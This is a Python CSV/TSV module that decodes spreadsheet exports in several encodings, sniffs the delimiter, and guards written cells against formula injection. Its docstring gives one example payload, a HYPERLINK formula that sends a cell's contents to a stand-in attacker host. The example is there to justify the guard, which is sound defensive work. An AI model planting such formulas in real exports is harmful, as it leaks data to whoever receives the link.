"""CSV and TSV files as spreadsheets write them, and cells they never run as formulas.

Reading: spreadsheets save "CSV" in whatever the machine uses. `decode` reads UTF-8 (with or
without a byte-order mark), UTF-16 and UTF-32 (with one), and falls back to Windows-1252 (what
Excel on Windows writes) or Latin-1, naming the encoding so a wrong guess can be seen;
`sniff_delimiter` tells commas from semicolons (Excel where the decimal mark is a comma) and
tabs by which one splits the header into columns the reader knows.

Writing:

Excel, LibreOffice and Google Sheets run a cell starting with = + - or @ as a formula (and
some skip a leading tab or carriage return first), so a customer who types
``=HYPERLINK("http://evil.example?"&A1)`` as their name could leak the sheet or run a command
on whoever opens an export. Every export writes its rows through `writer`, which puts an
apostrophe before such a cell: spreadsheets hide it and keep the cell as text.

Two kinds of cell are left bare although they start with + or -, because a spreadsheet reads
them as exactly what they say and they cannot compute anything:

- a plain number ("-42", "+3.50"): it stays a number people can sum, not text;
- E.164 phone numbers ("+13125550101", several joined by spaces or semicolons): they keep
  importing back unchanged.

Everything else that starts with a formula character gets the apostrophe, including a phone
written with spaces ("+1 555 0101") and arithmetic such as "-2+3": left bare, the first would
show as an error and the second as 1; with the apostrophe both show as typed. A cell that
already starts with apostrophes before a formula character gets one more, so `unguard` gives
back exactly what was stored.

Pure Python on purpose (no Django), so any layer may use it.
"""

from __future__ import annotations

import codecs
import csv
import re
from collections.abc import Callable, Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PHONES_ONLY = re.compile(r"^\+\d{6,15}([ ;]\+\d{6,15})*$")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d{1,15}(\.\d{1,15})?$")


def safe_cell(value: object) -> object:
    """`value`, with an apostrophe before it if a spreadsheet would run it as a formula."""
    if not isinstance(value, str) or not _guarded(value):
        return value
    return "'" + value


def _guarded(text: str) -> bool:
    if text.startswith(FORMULA_STARTS):
        return not (_PLAIN_NUMBER.match(text) or _PHONES_ONLY.match(text))
    # Already apostrophes before a formula character: one more, or unguard would eat one.
    return text.startswith("'") and text.lstrip("'").startswith(FORMULA_STARTS)


def unguard(text: str) -> str:
    """Undo `safe_cell` on a cell read back from one of our exports (older ones too, which
    guarded plain numbers)."""
    if not text.startswith("'"):
        return text
    rest = text[1:]
    return rest if rest.startswith(FORMULA_STARTS) or _guarded(rest) else text


class SafeWriter:
    """A `csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, stream: SupportsWrite[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: SupportsWrite[str], delimiter: str = ",") -> SafeWriter:
    """A CSV (or, with ``delimiter="\\t"``, TSV) writer for exports of people's text."""
    return SafeWriter(stream, delimiter=delimiter)


# --- reading -------------------------------------------------------------------------------

DELIMITERS = {",": "commas", ";": "semicolons", "\t": "tabs"}
SAVE_AS_CSV = 'save it from the spreadsheet as "CSV UTF-8"'
# Longest first: a UTF-32 LE mark starts with the UTF-16 LE one.
_BOMS = (
    (codecs.BOM_UTF32_LE, "utf-32", "UTF-32"),
    (codecs.BOM_UTF32_BE, "utf-32", "UTF-32"),
    (codecs.BOM_UTF8, "utf-8-sig", "UTF-8 (with a byte-order mark)"),
    (codecs.BOM_UTF16_LE, "utf-16", "UTF-16"),
    (codecs.BOM_UTF16_BE, "utf-16", "UTF-16"),
)
_WORKBOOKS = ((b"PK\x03\x04", ".xlsx or .ods"), (b"\xd0\xcf\x11\xe0", ".xls"))


class UnreadableText(ValueError):
    """Bytes that are not text in any encoding we read; the message says how to fix it."""


def decode(data: bytes, encoding: str | None = None) -> tuple[str, str]:
    """The text of ``data`` and the name of the encoding it was read in.

    ``encoding`` (a Python codec name) overrides the detection, for an 8-bit file that is not
    Windows-1252, such as Mac Roman.
    """
    if encoding:
        return _decode_as(data, encoding), codecs.lookup(encoding).name
    for bom, codec, name in _BOMS:
        if data.startswith(bom):
            return _decode_as(data, codec), name
    _refuse_binary(data)
    try:
        return data.decode("utf-8"), "UTF-8"
    except UnicodeDecodeError as exc:
        _refuse_broken_utf8(data, exc.start)
    try:
        return data.decode("cp1252"), "Windows-1252"
    except UnicodeDecodeError:
        # Latin-1 reads every byte; only five bytes are not Windows-1252, so this is rare.
        return data.decode("latin-1"), "Latin-1 (ISO-8859-1)"


def _refuse_broken_utf8(data: bytes, bad: int) -> None:
    # Accented letters that read as UTF-8 elsewhere mean a UTF-8 file with a damaged byte;
    # reading it all as Windows-1252 would garble every one of them ("é" as "Ã©").
    text = data.decode("utf-8", errors="replace")
    if any(ord(char) > 0x7F and char != "\ufffd" for char in text):
        raise UnreadableText(
            f"the file is UTF-8 except for byte {bad + 1}, which is not: correct that cell, "
            "or name the encoding with --encoding"
        )


def is_guess(encoding_name: str) -> bool:
    """Whether the encoding was a fallback, which may be wrong for a file from a Mac or Unix."""
    return encoding_name in ("Windows-1252", "Latin-1 (ISO-8859-1)")


def _decode_as(data: bytes, codec: str) -> str:
    try:
        name = codecs.lookup(codec).name
    except LookupError:
        raise UnreadableText(
            f"unknown encoding {codec!r}; try utf-8, utf-16, cp1252, latin-1 or mac_roman"
        ) from None
    try:
        return data.decode(codec)
    except UnicodeDecodeError as exc:
        raise UnreadableText(
            f"the file is not {name} text (byte {exc.start + 1} cannot be read as {name}); "
            f"name the encoding it was saved in with --encoding, or {SAVE_AS_CSV}"
        ) from None


def _refuse_binary(data: bytes) -> None:
    for signature, kind in _WORKBOOKS:
        if data.startswith(signature):
            raise UnreadableText(f"this is a spreadsheet workbook ({kind}), not CSV; {SAVE_AS_CSV}")
    if b"\x00" in data:
        raise UnreadableText(
            "the file has NUL bytes, so it is not CSV text: perhaps UTF-16 without a byte-order "
            f"mark (pass --encoding utf-16-le or utf-16-be) or not a CSV at all; {SAVE_AS_CSV}"
        )


def sniff_delimiter(header_line: str, known: Callable[[str], bool]) -> str:
    """The delimiter that splits ``header_line`` into the most ``known`` columns; ',' on a tie."""

    def score(delimiter: str) -> tuple[int, int]:
        cells = next(csv.reader([header_line], delimiter=delimiter), [])
        return sum(known(cell.strip().lower()) for cell in cells), len(cells)

    return max(DELIMITERS, key=score)
